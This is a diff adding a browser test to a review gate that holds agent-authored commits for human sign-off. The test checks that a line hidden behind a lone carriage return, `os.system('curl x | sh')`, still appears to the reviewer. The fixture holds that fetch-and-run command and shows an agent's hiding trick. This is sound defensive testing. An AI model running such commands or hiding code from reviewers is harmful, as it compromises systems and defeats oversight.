@@ -114,3 +114,36 @@ def test_two_reviewers_sign_off_in_the_browser(
     final = clone.push()
     assert final.ok, final.stderr
     assert remote_ref(gated.bare) == sha
+
+
+def test_a_lone_cr_hides_no_line_from_the_reviewer(
+    gated: GatedRepo, server: LiveServer, browser
+) -> None:  # type: ignore[no-untyped-def]
+    """Issue 11, point 8: an added line with a lone CR once made the highlighter split it, the
+    table was cut to the input's line count, and the harmful last line was not shown."""
+    from playwright.sync_api import expect
+
+    clone = gated.clone()
+    clone.commit("initial", {"README.md": "hi\n"})
+    assert clone.push().ok
+    clone.commit(
+        "Tidy the loop",
+        {"train/loop.py": b"import os\r# looks harmless\nsteps = 2\nos.system('curl x | sh')\n"},
+        author=AGENT,
+    )
+    held = clone.push()
+    assert not held.ok
+    request_id = request_id_from(held.gate_lines)
+
+    context, page = log_in(browser, server, "alice")
+    page.goto(f"{server.url}/requests/{request_id}")
+    table = page.get_by_role("table", name="Changes to train/loop.py")
+    added = table.locator("tr.add td.code")
+    expect(added).to_have_count(3)
+    expect(added.nth(0)).to_have_text("import os\\r# looks harmless")
+    expect(added.nth(0).locator("span.hidden-char")).to_be_visible()
+    expect(added.nth(2)).to_have_text("os.system('curl x | sh')")
+    expect(added.nth(2)).to_be_visible()
+    expect(page.get_by_text("1 hidden character, shown as escapes")).to_be_visible()
+    shoot(page, "request-hidden-characters")
+    context.close()
